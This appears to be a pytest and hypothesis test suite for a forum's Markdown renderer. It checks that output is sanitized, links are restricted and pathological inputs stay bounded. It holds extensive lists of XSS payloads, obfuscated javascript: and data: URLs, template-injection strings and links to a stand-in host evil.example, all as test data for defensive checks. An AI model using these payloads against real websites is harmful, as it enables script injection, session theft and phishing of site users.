import re
from concurrent.futures import ThreadPoolExecutor
from html import escape, unescape

import html5lib
import nh3
import pytest
from bleach.sanitizer import Cleaner
from hypothesis import example, given
from hypothesis import strategies as st

from forum.core.markdown import excerpt, plain, render
from forum.core.text import clean, one_line

TAGS = {"a", "blockquote", "br", "code", "del", "em", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre"}
TAGS |= {"strong", "ul"}
ATTRIBUTES = {"a": {"href", "rel"}, "ol": {"start"}}
SCHEMES = {"http", "https", "mailto"}
REL = "nofollow ugc noopener"

# Addresses that may not become links, whichever way Markdown lets one be written.
REFUSED = r"""
javascript:alert(1) JaVaScRiPt:alert(1) javascript:123 javascript&colon;alert(1) javascript&#58;alert(1)
javascript&#x3a;alert(1) &#106;avascript:alert(1) &#x6A;avascript:1 java&#10;script:alert(1)
java&Tab;script:1 java&NewLine;script:1 &#1;javascript:1 &#x2028;javascript:1 javascript%3aalert(1)
%6aavascript:alert(1) javascript://a.b/%0aalert(1) javascript:%22;alert(1) jav\ascript:alert(1)
javascript\:alert(1) javascript\://a.b vbscript:msgbox(1) data:text/html,x
data:text/html;base64,PHNjcmlwdD4= data:,x file:///etc/passwd ftp://a.b/c tel:1 tel:19001234567 sms:1 x:1
about:blank blob:http://a.b/1 view-source:http://a.b feed:javascript:1 jar:http://a.b!/ ws://a.b
chrome://settings intent://a.b#Intent;end magnet:?xt=1 mailto: mailto:a mailto:a@b?bcc=c@d
mailto:a@b%0d%0abcc:c@d mailto:a@b,c@d //evil.example ///evil.example /\evil.example \\evil.example
/%5cevil.example /%2fevil.example /&#x2f;evil.example /&sol;evil.example /&bsol;evil.example
/&Tab;/evil.example /&amp;#x2f;evil.example /a&amp;quot;b #top ?a=b a/b ../a . & http: http:/ http://
http:/a.b http:a.b http:///a.b http://?a http://#a http:\\a.b http://a.b\@evil.example
http://bank.example@evil.example http://u:p@a.b http://a.b%2eevil.example http://%65vil.example
http://a.b:port/ http://a.b:123456/ http://[::1/ http://-a.b http://"onclick=1 httpſ://a.b ｊavascript:1
ｈttp://a.b jаvascript:1 https&colon;//u@a.b
"""  # noqa: RUF001 (letters that only look right are refused too)
WAYS = ["[x]({})", "[x](<{}>)", "<{}>", "![x]({})", "[![x]({})]({})", '[x]({} "t")', "[x][r]\n\n[r]: {}"]

# Markup that must come out as text: classic, mutating, breaking out of Markdown's own HTML.
VECTORS = r"""
<script>alert(1)</script> <ScRiPt src=//evil.example></sCrIpT> <script>alert(1)//
<scr<script>ipt>alert(1)</scr</script>ipt> </p></article><script>alert(1)</script>
<img src=x onerror=alert(1)> <img src="x` `<script>alert(1)</script>"` `> <img/src/onerror=alert(1)>
<img src=x:x onerror&#61;alert(1)> <body onload=alert(1)> <svg onload=alert(1)> <svg/onload=alert(1)//
<svg><script>alert&#40;1)</script></svg> <svg><a xlink:href="javascript:1"><text y=9>x</text></a></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><animate onbegin=alert(1) attributeName=x dur=1s> <svg><use href="data:image/svg+xml,x#y"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<math><maction actiontype="statusline#http://a.b" xlink:href="javascript:1">x</maction></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>
<textarea><img title="</textarea><img src onerror=alert(1)>">
<title><a title="</title><img src onerror=alert(1)>"> <xmp><p title="</xmp><img src onerror=alert(1)>">
<style><style/><img src=x onerror=alert(1)> <style>@import "http://evil.example/x.css";</style>
<iframe src="javascript:alert(1)"></iframe> <iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">
<object data="data:text/html,x"></object><embed src="//evil.example">
<link rel=stylesheet href=//evil.example><base href="javascript:1//">
<meta http-equiv="refresh" content="0;url=javascript:1">
<form action="javascript:1"><button>x</button></form><input autofocus onfocus=alert(1)>
<button form=login formaction=//evil.example>x</button>
<details open ontoggle=alert(1)><summary>x</summary></details>
<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)> <marquee onstart=alert(1)>x</marquee>
<template><script>alert(1)</script></template> <table><td><p title="</td></table><img src onerror=alert(1)>">
<select><option><style></option></select><img src onerror=alert(1)></style>
<a href="javascript:1">x</a><a href=" &#14; javascript:1">x</a>
<a href="https://a.b" onclick=alert(1) style="position:fixed;inset:0" id=main name=body class=button>x</a>
<p id="csrf_token" class="notice" style="background:url(//evil.example)">x</p>
<!--[if gte IE 4]><script>alert(1)</script><![endif]--> <!-- --!><img src onerror=alert(1)> -->
<![CDATA[<script>alert(1)</script>]]> <?xml version="1.0"?><?php echo 1 ?><% alert(1) %>
</textarea></title></style></script></pre></code></blockquote></li></ul></ol></div></body></html> <plaintext>
<br/onclick=alert(1)><hr onclick=alert(1)><em onmouseover=alert(1)>x</em>
<x onclick=alert(1)>x</x><custom-element></custom-element> ＜script＞alert(1)＜/script＞ ‹script› ﹤script﹥
&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &#x3c;img src onerror=alert(1)&#x3e; &ltscript&gt
&amp;lt;script&amp;gt; &amp;#60;script&amp;#62; &quot; onmouseover=&quot;alert(1) &apos;&grave;
{{7*7}} {{constructor.constructor('alert(1)')()}} ${7*7} #{7*7} <%= 7*7 %> {% raw %} %(x)s {0} [[7*7]]
`<script>alert(1)</script>` ``<b>`</b>``
    <script>alert(1)</script>
~~~"><script>alert(1)</script>
```html"onmouseover="alert(1)
```<img src onerror=alert(1)>
# <script>alert(1)</script> {#id .class onclick=alert(1)}
> <script>alert(1)</script>
- <script>alert(1)</script>
1<script>. x
[<script>alert(1)</script>](http://a.b) [x](http://a.b"onmouseover="alert(1))
[x](http://a.b/'onmouseover='alert(1)) [x](<http://a.b/"onmouseover="alert(1)>)
[x](http://a.b/&quot;onmouseover=&quot;alert(1)) [x](http://a.b/&amp;quot;onmouseover=&amp;quot;alert(1))
[x](http://a.b/`onmouseover=alert(1)) [x](http://a.b "t" onmouseover="alert(1)") <!DOCTYPE>
[x](http://a.b '"><script>alert(1)</script>') ![x" onerror="alert(1)](http://a.b/c.png)
![<img src onerror=alert(1)>](http://a.b/c.png "x" onerror=alert(1)) ![x](http://a.b/c.png =100x100)
[![x](http://a.b/"onerror="alert(1))](http://c.d)
[a [b](http://a.b) c](http://c.d) [a <http://a.b> c](http://c.d) [![a](/b)](/c)
<http://a.b/"onmouseover="alert(1)> <http://a.b/<script>> <http://a.b/'>
http://a.b/"onmouseover="alert(1) http://a.b/<script>alert(1)</script> http://a.b/'onclick='1
http://a.b/&quot;onclick=alert(1) http://a.b/)"onclick=1 http://a.b/\"onclick=1
<a@b.c"onclick=alert(1)> <a@b.c'> <"x"@b.c>
**<b>**</b> *<i*> ~~<s>~~ [](<script>) [x](<<script>>)
a≮b≯ ≮script≯ *̸x* `̸x`
"""  # noqa: RUF001 (the same)

# Each repeated to fill a text.
BOMBS = (
    ">|[|*|_|`|- |![|](|<|&|\\|~~|> |>- |- > |*a_ |**a *a|*a **a|*_|***|*a*|**a**b|*a*_b_|~~a |~~*a*~~|a~~b"
    "|<http://|<http://a> |<a@b> |<a:|&amp;|&#x202e;|&lt;|&#|\t|\t- |\n|a\n|a\n\n|-\n|- a\n  - b\n|1. a\n"
    "|\u0301|a\u0301\u0323|\u202e|* a\n+ b\n- c\n|# a\n|#|a\n=\n|---\n|```\n|~~~\n|`a` |``a`|* * |1. 1. "
    "|http://a |http://a|(http://a/(|http://a?|;http://a/|http://u@|www.|www.a.b |a@b.c |[a](/)|[](/)"
    '|![a](/)|[a](http://b) |[![a](/)](/)|[a](|[a](<|[a](b "|[a](/ (|[a]()|[a](x:1)|[*a*](/)|*[a](/)* '
    '|[a][a]|[a\n|[[]|[a]: /b\n|[a]: /b\n[a] |"|<b>|[a](http://\xe4/\xe4)|a  \n|     a\n|>\n|> a\n\n'
    "|> > > a\nb\n|* + - 1. "
)
SHAPES = {
    "quotes ever deeper": "\n".join(">" * depth + "a" for depth in range(1, 190)),
    "lists ever deeper": "\n".join(" " * depth * 2 + "- a" for depth in range(1, 140)),
    "quotes and lists": (">" * 9 + "- " * 9 + "a\n") * 70,
    "lazy lines after deep quotes": "> " * 15 + "a\n" + "b\n" * 900,
    "lazy lines after a deep list": "- " * 15 + "a\n" + "b\n" * 900,
    "a list of blank lines": "- a\n" + "\n" * 1900,
    "pictures in pictures": "![" * 400 + "a" + "](/)" * 400,
    "emphasis in emphasis": "*a **b " * 400 + "c** d* " * 400,
    "ticks ever longer": " ".join("`" * ticks for ticks in range(1, 65)),
    "a link used a thousand times": "[a]: /" + "x" * 9000 + "\n\n" + "[a]" * 1200,
    "one long name": "http://" + "a." * 9000,
    "a long name in strange letters": "<http://" + "".join(map(chr, range(0x4E00, 0x9600))) + ">",
    "a long way in brackets": "http://a/" + "([{" * 790,
    "addresses without a space": ";http://a/" * 100 + "a" * 18_000,
}
PIECES = (
    "* ** _ ~~ ` ``` ~~~ [ ] ( ) ]( ](/a) ![ < > <b> </p> </article> <!-- --> <http:// http://a.b/ & &lt; : "
    "&#60; &#x202e; &amp;lt; &quot; \" ' \\ \u0301 \u0338 \x00 \ud800 // b \xe9 | --- === # 1. - + > {{ \t"
)
TEXTS = st.lists(st.sampled_from(["\n", "\n\n", " ", "    ", *PIECES.split(" ")])).map("".join) | st.text()


def body(html):
    return html5lib.parse(html, namespaceHTMLElements=False).find("body")


def tree(html):
    return html5lib.serialize(body(html), omit_optional_tags=False, alphabetical_attributes=True)


def hrefs(html):
    return [link.get("href") for link in body(html).iter("a")]


def assert_harmless(html):
    """Assert that a browser finds only what we allow, and all of it inside its box."""
    before, box, after = body(f"<p></p><article>{html}</article><p></p>")
    assert [part.tag for part in (before, box, after)] == ["p", "article", "p"]
    assert [before.text, before.tail, box.tail, after.text, after.tail] == [None] * 5
    for element in list(box.iter())[1:]:
        assert element.tag in TAGS
        assert set(element.attrib) <= ATTRIBUTES.get(element.tag, set())
        assert element.get("start", "1").isdecimal()
    for link in box.iter("a"):
        assert link.get("rel") == REL
        assert re.match(r"https?://[\w\[]|mailto:\w|/(?![/\\])", link.get("href"), re.IGNORECASE)
        assert one_line("".join(link.itertext()))


def assert_settled(html):
    """Assert that neither our cleaner nor another one finds anything left to do."""
    kept = {tag: list(names) for tag, names in ATTRIBUTES.items()}
    assert Cleaner(tags=TAGS, attributes=kept, protocols=SCHEMES).clean(html) == html
    kept = {tag: names - {"rel"} for tag, names in ATTRIBUTES.items()}  # which nh3 sets itself
    other = nh3.clean(html, tags=TAGS, attributes=kept, url_schemes=SCHEMES, link_rel=REL)
    assert tree(other) == tree(html) or "://xn--" in html  # nh3 also tells which foreign names can exist


@pytest.mark.parametrize("vector", VECTORS.strip("\n").split("\n"))
def test_markup_of_every_kind_comes_out_as_text(vector):
    html = render(vector)
    assert_harmless(html)
    assert_settled(html)


@pytest.mark.parametrize("address", REFUSED.split())
def test_a_doubtful_address_stays_text_however_it_is_written(address):
    for way in (*WAYS, "{}"):
        html = render(way.format(*[address] * way.count("{}")))
        assert_harmless(html)
        assert_settled(html)
        # What is left may hold a good address of its own, such as the one in jar:http://a.b!/
        assert all(re.fullmatch(r"http://a\.b(/[^@]*)?", href) for href in hrefs(html))


@pytest.mark.parametrize(
    ("source", "href"),
    [
        ("[x](https://a.b/c?d=e&f=g#h)", "https://a.b/c?d=e&f=g#h"),
        ("[x](/threads/1)", "/threads/1"),
        ("[x](/)", "/"),
        ("[x](</search?q=a b>)", "/search?q=a%20b"),
        ("[x](mailto:jo@a.b)", "mailto:jo@a.b"),
        ("<jo@a.b>", "mailto:jo@a.b"),
        ("<http://a.b:80/>", "http://a.b:80/"),
        ("see HTTPS://A.b/c_(d)?e=f, ok", "HTTPS://A.b/c_(d)?e=f"),
        ("http://m\xfcnchen.de/\xe4", "http://xn--mnchen-3ya.de/%C3%A4"),
        ("[x](https://[::1]:8000/)", "https://[::1]:8000/"),
        ("![a *b*](https://a.b/c.png)", "https://a.b/c.png"),
        ("[](https://a.b)", "https://a.b"),
    ],
)
def test_a_good_address_becomes_a_link(source, href):
    html = render(source)
    assert_harmless(html)
    assert_settled(html)
    assert hrefs(html) == [href]


def test_an_address_needs_its_scheme_and_is_shown_as_written():
    assert hrefs(render("a.b www.a.b jo@a.b //a.b ftp://a.b mailto:jo@a.b http//a.b")) == []
    assert ">http://xn--pple-43d.com/%D0%B0</a>" in render("http://xn--pple-43d.com/%D0%B0")


@pytest.mark.parametrize(
    ("source", "html"),
    [
        (
            "You,\nI *am* **here**.\n\nJo",
            "<p>You,<br>\nI <em>am</em> <strong>here</strong>.</p>\n<p>Jo</p>\n",
        ),
        ("# a\n## b\n### c\n###### d", "<h4>a</h4>\n<h4>b</h4>\n<h5>c</h5>\n<h6>d</h6>\n"),
        ('```js\na < "b"\n```', '<pre><code>a &lt; "b"\n</code></pre>\n'),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>\n'),
        ("> a\n\n- b\n\n---", "<blockquote>\n<p>a</p>\n</blockquote>\n<ul>\n<li>b</li>\n</ul>\n<hr>\n"),
        ("~~a~~ `b`", "<p><del>a</del> <code>b</code></p>\n"),
        ("|a|b|\n|-|-|", "<p>|a|b|<br>\n|-|-|</p>\n"),
        ("[a]: /b\n\n[a]", "<p>[a]: /b</p>\n<p>[a]</p>\n"),
        ("[![a](/b)](/c)", f'<p><a href="/c" rel="{REL}">a</a></p>\n'),
        ("&#x202e;a&#8294;b \u202ec", "<p>ab c</p>\n"),
        ("x" + "&#x301;" * 9, "<p>x" + "\u0301" * 4 + "</p>\n"),
        ("*&#x301;y*", "<p><em>y</em></p>\n"),
        ("", ""),
    ],
)
def test_a_text_reads_as_it_was_meant(source, html):
    assert render(source) == html


@pytest.mark.parametrize("bomb", [*BOMBS.split("|"), *SHAPES.values()])
def test_a_bomb_comes_to_little(bomb):
    # Once as large as may be, and once small enough not to be set aside as too much at first sight.
    for size in (20_000, 2400):
        source = (bomb * (1 + size // len(bomb)))[: max(size, len(bomb))]
        html = render(source)
        assert len(html) <= 20 * len(source) + 1000
        if html.count("<") > 2:
            assert_harmless(html)


@pytest.mark.parametrize("source", ["a\n" * 2100, "*" * 2600, "- a\n" * 1500, ">" * 22 + ' deep & "down"'])
def test_what_would_cost_too_much_is_shown_as_written(source):
    html = render(source)
    assert html.startswith("<pre>")
    assert unescape(html) == f"<pre>{clean(source)}</pre>\n"
    assert_settled(html)


@given(TEXTS)
@example("<\u0338script>")
def test_any_text_renders_to_what_we_allow_and_nothing_is_left_to_clean(source):
    html = render(source)
    assert_harmless(html)
    assert_settled(html)
    assert render(source) == html


@given(TEXTS, st.integers(1, 60))
def test_an_excerpt_is_short_and_plain(source, length):
    html = render(source)
    text = plain(html)
    assert text == " ".join(text.split())
    short = excerpt(html, length)
    assert len(short) <= length
    assert short == text or text.startswith(short.removesuffix("\N{HORIZONTAL ELLIPSIS}"))


@given(st.text("ab<>&;\"'\n", max_size=60))
def test_the_words_come_back_from_the_page(source):
    assert plain(f"<pre>{escape(source)}</pre>") == " ".join(source.split())


def test_an_excerpt_ends_after_a_word():
    html = render("# Title\n\nOne *two,*\nthree\n\n- four & five")
    assert plain(html) == "Title One two, three four & five"
    assert excerpt(html, 99) == plain(html)
    assert excerpt(html, 15) == "Title One two\N{HORIZONTAL ELLIPSIS}"
    assert excerpt(html, 13) == "Title One\N{HORIZONTAL ELLIPSIS}"
    assert excerpt(html, 3) == "Ti\N{HORIZONTAL ELLIPSIS}"


def test_threads_do_not_disturb_each_other():
    sources = [f"*{number}* [x](/{number})\n\n- a <b>" for number in range(60)]
    with ThreadPoolExecutor(4) as threads:
        assert list(threads.map(render, sources)) == list(map(render, sources))
